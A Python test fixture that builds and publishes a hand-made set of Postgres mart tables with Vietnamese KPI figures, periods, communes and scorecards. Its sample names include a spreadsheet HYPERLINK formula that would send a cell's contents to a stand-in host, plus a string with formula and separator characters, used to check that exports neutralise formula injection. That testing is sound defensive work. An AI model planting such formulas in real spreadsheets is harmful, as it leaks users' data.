"""A whole candidate made by hand: every mart in the columns of its contract, a few rows in each."""

from __future__ import annotations

from collections.abc import Iterable, Mapping
from datetime import date
from decimal import Decimal
from typing import Any

import yaml
from psycopg import sql

from loaders import audit
from loaders.postgres.database import Role, connect
from loaders.settings import PROJECT_ROOT
from loaders.stages.publish import publish
from tests.candidates import judge_candidate
from tests.report_pages import cell, commune, kpi, release_view, score, target, verdict

MODELS = PROJECT_ROOT / "dbt_project" / "models" / "marts" / "_marts__models.yml"
#: What a spreadsheet must never execute, and what it must not lose.
FORMULA = '=HYPERLINK("http://x.invalid?"&A1;"mở")'
HOSTILE = "tên; =1+1\n+2, 'a'"
KPIS = ("cover", "jobless", "quote")
PERIODS = {
    "2016": ("year", date(2016, 1, 1), date(2016, 12, 31)),
    "2024-Q3": ("quarter", date(2024, 7, 1), date(2024, 9, 30)),
    "2024-2025": ("school_year", date(2024, 9, 1), date(2025, 8, 31)),
    "2025-06": ("month", date(2025, 6, 1), date(2025, 6, 30)),
    "2025-07": ("month", date(2025, 7, 1), date(2025, 7, 31)),
}


def values() -> list[dict[str, Any]]:
    """Figures of every kind: exact, negative, hidden, without a figure, real beside sample."""
    hidden = {"is_suppressed": True, "numerator": None, "contributors": None}
    return [
        cell("cover", "94.126"),
        cell("cover", "12.5000000001", period="2025-06", contributors=940),
        cell("cover", "63.21", data_label="real", series="published", period="2016"),
        cell("cover", "80", period="2024-Q3", maturity="provisional", caveat_vi="; -một phần"),
        cell("cover", "81.000", period="2024-2025", caveat_vi="=2", caveat_en="part"),
        cell("cover", "77.7", breakdown="age_group", breakdown_value="60+"),
        cell("cover", "0.000001", breakdown="age_group", breakdown_value="<70"),
        cell("cover", "5", breakdown="ethnic_group", breakdown_value="01"),
        commune("cover", "-81.26", 1, numerator=Decimal("-12345678901234.5")),
        commune("cover", "80", 1, period="2025-06"),
        commune("cover", None, 2, **hidden),
        commune("cover", None, 2, **hidden, breakdown="sex", breakdown_value="male"),
        commune("cover", "99.5", 3, boundary="qn_current", name_vi=FORMULA),
        cell("jobless", None, numerator=None, denominator=None, denominator_id=None),
        cell(
            "quote", "1", unit_level="country", boundary="reference", unit_code="VN", unit_id="VN"
        ),
    ]


def publish_whole(
    candidate_id: str, period: str = "2025-07", cells: Iterable[Mapping[str, Any]] = ()
) -> str:
    """Build, pass and publish a candidate with these figures (or all of `values`); its release."""
    build_whole(candidate_id, period, list(cells) or values())
    judge_candidate(candidate_id, audit.GATE_PASSED, period=period)
    return publish(candidate_id).release_id


def build_whole(candidate_id: str, period: str, cells: Iterable[Mapping[str, Any]]) -> None:
    rows = _rows(candidate_id, period, [dict(row) for row in cells])
    models = yaml.safe_load(MODELS.read_text(encoding="utf-8"))["models"]
    with connect(Role.TRANSFORMER) as connection:
        for model in models:
            table = sql.Identifier("candidate", model["name"])
            columns = {column["name"]: column["data_type"] for column in model["columns"]}
            listing = ", ".join(f"{name} {type_}" for name, type_ in columns.items())
            connection.execute(sql.SQL("drop table if exists {}").format(table))
            connection.execute(sql.SQL("create table {} (" + listing + ")").format(table))
            about = sql.Literal(f"Bảng {model['name']} / Table {model['name']}")
            connection.execute(sql.SQL("comment on table {} is {}").format(table, about))
            for name in columns:
                connection.execute(
                    sql.SQL("comment on column {} is {}").format(
                        sql.Identifier("candidate", model["name"], name),
                        sql.Literal(f"Cột {name} / Column {name}"),
                    )
                )
            for row in rows.get(model["name"], ()):
                given = {name: value for name, value in row.items() if name in columns}
                connection.execute(
                    sql.SQL("insert into {} ({}) values ({})").format(
                        table,
                        sql.SQL(", ").join(map(sql.Identifier, given)),
                        sql.SQL(", ").join([sql.Placeholder()] * len(given)),
                    ),
                    list(given.values()),
                )


def _rows(
    candidate_id: str, period: str, cells: list[dict[str, Any]]
) -> dict[str, Iterable[Mapping[str, Any]]]:
    note = release_view().note | {"as_of_period": period, "candidate_id": candidate_id}
    kpis = [
        kpi("cover", name_vi=FORMULA, sort_order=1, pitfalls_en="", definition_proof=None),
        kpi("jobless", sort_order=2, name_en=HOSTILE, unit_vi="hộ", decimals=0),
        kpi("quote", sort_order=10, name_vi="'ngoặc"),
        kpi("silent", sort_order=11, state="no_source"),
    ]
    programme = {"data_label": "sample", "series": "total", "boundary": "qn_programme"}
    return {
        "release_note": [note],
        "dim_kpi": kpis,
        "dim_target": [target("cover", ">=", "95.50"), target("jobless", "<", "2")],
        "dim_period": [
            {
                "period": name,
                "period_kind": kind,
                "starts_on": starts,
                "ends_on": ends,
                "year_decimal": ends.year + Decimal(ends.month) / 12,
                "label_vi": f"Kỳ {name}",
            }
            for name, (kind, starts, ends) in PERIODS.items()
        ],
        "dim_unit": list({row["unit_id"]: _unit(row) for row in cells}.values()),
        "scorecard": [
            score(
                kpis[0],
                **programme,
                period="2025-07",
                value=Decimal("94.126"),
                operator=">=",
                target_value=Decimal("95.50"),
                target_year=2030,
                verdict="limited_progress",
                straight_line_verdict="behind",
                score=Decimal("-0.25"),
            ),
            score(kpis[1], **programme, period="2025-07", value=Decimal("4300.0")),
            score(kpis[3], caveat_vi="Chưa có nguồn số liệu.", caveat_en="No source."),
        ],
        "fct_kpi_value": cells,
        "fct_kpi_verdict": [
            verdict("cover", "limited_progress")
            | dict.fromkeys(("unit_level", "unit_code", "unit_id"), "qn_programme")
        ],
    }


def _unit(row: Mapping[str, Any]) -> dict[str, Any]:
    return {
        **{name: row[name] for name in ("unit_id", "unit_code", "unit_level")},
        "name_vi": row.get("name_vi", "Tên"),
        "name_en": row.get("name_en", "Name"),
        "valid_from": date(2025, 7, 1),
        "is_urban": row["unit_code"].endswith("1"),
        "latitude": row.get("latitude", 1e-7),
        "longitude": row.get("longitude"),
    }
